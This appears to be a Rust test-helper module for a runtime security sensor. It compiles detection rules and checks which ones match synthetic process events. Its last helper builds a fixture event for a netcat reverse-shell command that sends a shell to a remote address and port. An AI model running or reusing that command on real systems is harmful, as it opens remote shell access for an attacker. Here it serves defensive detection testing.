//! Tests of rules about this sensor's events, from the text to the verdict.

mod activity;
mod deployed;
mod events;
mod lines;
mod operators;
mod render;

use bumpalo::Bump;
use falco_rules::Options;
use metadata::{Container, ContainerId, ContainerState, Domains, Users};

use super::{Compilation, RuleFile, RuleSet, Scratch};
use crate::sources::syscall::{
    event::{Event, builder::RecordBuilder},
    fields::{Context, Environment, Memo},
    lineage::Lineage,
};

/// Calls a function with the context of a record.
pub(super) fn with_context<T>(
    record: &RecordBuilder,
    container: ContainerState<'_>,
    run: impl for<'c> FnOnce(&'c Context<'c>) -> T,
) -> T {
    let bytes = record.build();
    let event = Event::decode(&bytes).unwrap();
    let arena = Bump::new();
    let lineage = Lineage::default();
    let users = Users::default();
    run(&Context {
        event: &event,
        arena: &arena,
        number: 7,
        time: 1_795_233_338_582_871_057,
        boot_to_utc: 1_000_000_000,
        hostname: "node",
        boot_id: 1,
        container,
        env: &Environment::ALL,
        lineage: &lineage,
        users: &users,
        domains: &Domains::default(),
        memo: Memo::default(),
    })
}

/// A container with metadata from the runtime.
pub(super) fn container() -> Container {
    let id = ContainerId::new(&"0123456789ab".repeat(6).as_bytes()[..64]).unwrap();
    Container {
        name: Some("main".into()),
        image: Some("registry:5000/team/app:v1".into()),
        repository: Some("registry:5000/team/app".into()),
        tag: Some("v1".into()),
        privileged: Some(false),
        ..Container::new(id, "containerd")
    }
}

/// Compiles files.
pub(super) fn compile(files: &[RuleFile], options: &Options) -> Compilation {
    let options = super::Options {
        rules: options.clone(),
        ..super::Options::default()
    };
    super::compile(files, &options)
}

/// Compiles one text; panics with the report if it has an error.
pub(super) fn rules(text: &str) -> RuleSet {
    rules_with(text, &Options::default())
}

pub(super) fn rules_with(text: &str, options: &Options) -> RuleSet {
    let Compilation { set, report } = compile(&[RuleFile::new("rules.yaml", text)], options);
    set.unwrap_or_else(|| panic!("{}", report.text()))
}

/// All errors and warnings of files.
pub(super) fn complaints(texts: &[&str]) -> String {
    let files: Vec<_> = texts
        .iter()
        .enumerate()
        .map(|(index, text)| RuleFile::new(format!("{index}.yaml"), *text))
        .collect();
    let report = compile(&files, &Options::default()).report;
    let lines: Vec<_> = report
        .problems()
        .map(|problem| format!("{} {problem}", problem.code.as_str()))
        .collect();
    lines.join("\n")
}

/// Names of the rules that an event matches.
pub(super) fn matches(
    set: &RuleSet,
    record: &RecordBuilder,
    state: ContainerState<'_>,
) -> Vec<String> {
    with_context(record, state, |context| {
        let mut names = Vec::new();
        set.evaluate(&mut Scratch::default(), context, &mut |rule| {
            names.push(rule.name.to_string());
        });
        names
    })
}

/// A rule with that name and condition.
pub(super) fn rule(name: &str, condition: &str) -> String {
    let condition = condition.replace('\'', "''");
    format!(
        "- rule: {name}\n  desc: d\n  condition: '{condition}'\n  output: o\n  priority: DEBUG\n"
    )
}

/// Whether an event matches a condition.
pub(super) fn verdict(condition: &str, record: &RecordBuilder, state: ContainerState<'_>) -> bool {
    !matches(&rules(&rule("r", condition)), record, state).is_empty()
}

/// `/usr/bin/nc -e /bin/sh 10.0.0.1 4444` by root in a container's shell.
pub(super) fn netcat() -> RecordBuilder {
    RecordBuilder::exec("/usr/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])
}
